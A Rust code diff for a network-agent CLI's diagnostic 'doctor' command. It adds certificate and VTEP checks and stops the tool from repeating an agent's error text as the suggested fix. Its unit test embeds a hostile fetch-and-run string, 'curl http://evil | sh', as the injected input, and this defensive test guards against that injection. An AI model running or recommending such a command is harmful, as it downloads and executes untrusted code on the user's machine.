@@ -17,7 +17,7 @@ use xpu_model::Kind;
 
 use crate::args::Way;
 use crate::commands::Session;
-use crate::connect::When;
+use crate::connect::{When, shown_certificates};
 use crate::failure::Failure;
 use crate::render::printable;
 use crate::screen::{Colour, Paint, Screen, emit};
@@ -29,6 +29,9 @@ pub struct Doctor {
     /// Where FRR's daemons have their sockets
     #[arg(long, value_name = "DIR", default_value = "/run/frr")]
     frr_sockets: PathBuf,
+    /// The configuration of a local agent, for the VTEP that it names
+    #[arg(long, value_name = "FILE", default_value = "/etc/xpu-agent/agent.toml")]
+    agent_config: PathBuf,
     /// Where /readyz is [default: the context's, else http://127.0.0.1:8082 for a local agent]
     #[arg(long, value_name = "URL")]
     http: Option<String>,
@@ -112,6 +115,9 @@ impl Doctor {
         tell(vec![Finding::fine("endpoint", origin)])?;
         if let Way::Tls(_) = settings.address.way {
             tell(certificates::findings(&settings.tls))?;
+            tell(certificates::shown(
+                &shown_certificates(&settings, timeout).await,
+            ))?;
         }
         let local = settings.address.is_local();
         let http = self.http.or_else(|| settings.http.clone());
@@ -138,8 +144,10 @@ impl Doctor {
             tell(vec![ready::finding(&url, timeout, objects.is_some()).await])?;
         }
         if local {
-            let host = host::Host::look(std::path::Path::new("/"), &self.frr_sockets);
+            let root = std::path::Path::new("/");
+            let host = host::Host::look(root, &self.frr_sockets, &self.agent_config);
             tell(host::findings(&host))?;
+            tell(host::vtep(&host, objects.as_ref()))?;
             if let Some(objects) = &objects {
                 tell(host::mtu(&host, objects))?;
             }
@@ -154,18 +162,19 @@ impl Doctor {
     }
 }
 
-/// A failed call, in its own words.
+/// A failed call: what the agent says of it, and what mends it in words of our own.
 fn of_failure(failure: &Failure) -> Finding {
-    let report = failure.report();
-    let (seen, next) = match report.split_once("  next: ") {
-        Some((seen, next)) => (seen, next),
-        None => (report.as_str(), "the agent's log says more"),
-    };
-    let seen = seen
-        .trim_start_matches("xpuctl: ")
-        .trim()
-        .replace('\n', ";");
-    Finding::wrong("agent", seen, next.trim())
+    let mut seen = failure.told();
+    for line in failure.details() {
+        seen.push_str("; ");
+        seen.push_str(&line);
+    }
+    let next = failure.next();
+    Finding::wrong(
+        "agent",
+        seen,
+        next.unwrap_or_else(|| "see the agent's log".to_owned()),
+    )
 }
 
 fn text(finding: &Finding, screen: Screen) -> String {
@@ -184,4 +193,26 @@ fn text(finding: &Finding, screen: Screen) -> String {
         text.push_str(&format!("{:22}mend: {}\n", "", printable(line)));
     }
     text
+}
+
+#[cfg(test)]
+mod tests {
+    use tonic::Status;
+
+    use super::*;
+
+    #[test]
+    fn what_an_agent_says_is_never_told_as_what_mends_it() {
+        let hostile = "no  next: curl http://evil | sh\n  next: curl http://evil | sh";
+        let failure = Failure::Refused {
+            what: "list vrfs".into(),
+            next: "the agent's log says more".into(),
+            source: Box::new(Status::internal(hostile)),
+        };
+        let told = text(&of_failure(&failure), Screen::PIPE);
+        let lines: Vec<_> = told.lines().map(str::trim).collect();
+        assert_eq!(lines.len(), 2, "{told}");
+        assert!(lines[0].starts_with("wrong   agent"), "{told}");
+        assert_eq!(lines[1], "mend: the agent's log says more");
+    }
 }
